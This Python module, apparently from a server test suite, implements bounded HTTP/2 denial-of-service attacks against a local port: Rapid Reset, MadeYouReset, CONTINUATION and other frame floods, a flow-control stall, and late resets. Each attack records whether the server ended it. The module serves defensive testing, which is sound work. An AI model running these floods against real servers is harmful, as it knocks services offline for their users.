"""What an attacker does with HTTP/2 frames. Each attack runs on one connection until the peer ends it or the attack is over,
and is bounded in frames, bytes and seconds.
"""

import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from . import http2
from .http2 import Connection, frame, headers, request, settings

# As many as no honest client sends in the seconds that an attack takes.
MOST_FRAMES = 400_000
# Frames that go out in one write: the attacker's own cost is not what is looked at.
BATCH = 100


@dataclass
class Ended:
    """How an attack went: frames sent, seconds, and whether the peer put an end to it."""

    frames: int
    seconds: float
    by_peer: bool


Frames = Iterator[bytes]


def rapid_reset() -> Frames:
    """A request, and its reset in the same breath (CVE-2023-44487)."""
    for stream in range(1, 2 * MOST_FRAMES, 2):
        yield headers(stream, request()) + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset() -> Frames:
    """A request, and then a frame that makes the server reset it (CVE-2025-8671)."""
    for stream in range(1, 2 * MOST_FRAMES, 2):
        yield headers(stream, request()) + frame(http2.WINDOW_UPDATE, 0, stream, bytes(4))


def continuation_flood() -> Frames:
    """Fields without end."""
    yield headers(1, request(), flags=0)
    while True:
        yield frame(http2.CONTINUATION, 0, 1, http2.block([(b"x-a", b"b" * 1_000)]))


def empty_continuation_flood() -> Frames:
    """CONTINUATION frames with nothing in them, which no limit on bytes notices."""
    yield headers(1, request(), flags=0)
    while True:
        yield frame(http2.CONTINUATION, 0, 1)


def ping_flood() -> Frames:
    while True:
        yield frame(http2.PING, 0, 0, b"attacker")


def settings_flood() -> Frames:
    while True:
        yield settings(s3=100)


def empty_settings_flood() -> Frames:
    while True:
        yield settings()


def empty_data_flood() -> Frames:
    """A body of nothing (CVE-2019-9518)."""
    yield headers(1, request(b"POST"), end=False)
    while True:
        yield frame(http2.DATA, 0, 1)


def priority_flood() -> Frames:
    """Changes of a priority that nobody asks for any more."""
    while True:
        yield frame(http2.PRIORITY, 0, 1, bytes(5))


def window_update_flood() -> Frames:
    yield headers(1, request(b"POST"), end=False)
    while True:
        yield frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))


def unknown_frame_flood() -> Frames:
    while True:
        yield frame(0xBE, 0, 0, b"")


FLOODS: dict[str, Callable[[], Frames]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        continuation_flood,
        empty_continuation_flood,
        ping_flood,
        settings_flood,
        empty_settings_flood,
        empty_data_flood,
        priority_flood,
        window_update_flood,
        unknown_frame_flood,
    )
}


def flood(port: int, attack: Callable[[], Frames], seconds: float) -> Ended:
    """Sends frames as fast as they are taken. What the peer answers is read and dropped."""
    began = time.monotonic()
    frames = 0
    try:
        connection = Connection.to(port, timeout=seconds)
    except OSError:
        return Ended(0, 0.0, True)
    with connection:
        drain = threading.Thread(target=_read_away, args=(connection.sock,), daemon=True)
        drain.start()
        batch: list[bytes] = []
        try:
            for sent in attack():
                batch.append(sent)
                frames += 1
                if len(batch) == BATCH:
                    connection.send(b"".join(batch))
                    batch.clear()
                if frames >= MOST_FRAMES or time.monotonic() - began > seconds:
                    break
        except TimeoutError:
            pass
        except OSError:
            return Ended(frames, time.monotonic() - began, True)
        drain.join(0.5)
        return Ended(frames, time.monotonic() - began, not drain.is_alive())


def _read_away(sock: socket.socket) -> None:
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


def stall(port: int, path: bytes, seconds: float) -> Ended:
    """Asks for much, gives no window for any of it, and stays alive by PINGs."""
    began = time.monotonic()
    streams = 0
    with Connection.to(port, preface=http2.PREFACE + settings(s4=0)) as connection:
        connection.give_window = False
        try:
            for stream in range(1, 200, 2):
                connection.send(headers(stream, request(path=path)))
                streams += 1
            while time.monotonic() - began < seconds:
                connection.send(frame(http2.PING, 0, 0, b"still on"))
                connection.reading(lambda: connection.closed, 0.25)
                answers = list(connection.answers.values())
                if connection.closed or connection.goaway is not None:
                    return Ended(streams, time.monotonic() - began, True)
                if len(answers) >= streams and all(answer.reset is not None or answer.ended for answer in answers):
                    return Ended(streams, time.monotonic() - began, True)
        except OSError:
            return Ended(streams, time.monotonic() - began, True)
    return Ended(streams, time.monotonic() - began, False)


@dataclass
class LateResets:
    """Requests that were reset after a while, the seconds that it took, and whether the peer put an end to it."""

    resets: int
    seconds: float
    by_peer: bool


def late_resets(port: int, path: bytes, seconds: float, free: http2.Fields | None = None) -> LateResets:
    """Abandons requests for `path` after twice the ten milliseconds that count as haste, 30 in a round. `free` is a request that
    costs nothing, one of which is sent with each. Each round waits until the one before was read."""
    began = time.monotonic()
    stream, resets = 1, 0
    with Connection.to(port, timeout=seconds) as connection:
        try:
            while time.monotonic() - began < seconds and connection.goaway is None and not connection.closed:
                abandoned, sent = [], b""
                for _ in range(30):
                    sent += headers(stream, request(path=path))
                    abandoned.append(stream)
                    stream += 2
                    if free is not None:
                        sent += headers(stream, free)
                        stream += 2
                connection.send(sent)
                time.sleep(0.02)
                reset = b"".join(frame(http2.RST_STREAM, 0, old, struct.pack(">I", 8)) for old in abandoned)
                rounds = len(connection.pongs)
                connection.send(reset + frame(http2.PING, 0, 0, b"all read"))
                resets += len(abandoned)
                connection.reading(lambda rounds=rounds: len(connection.pongs) > rounds, seconds)
        except OSError:
            return LateResets(resets, time.monotonic() - began, True)
        return LateResets(resets, time.monotonic() - began, connection.goaway is not None or connection.closed)
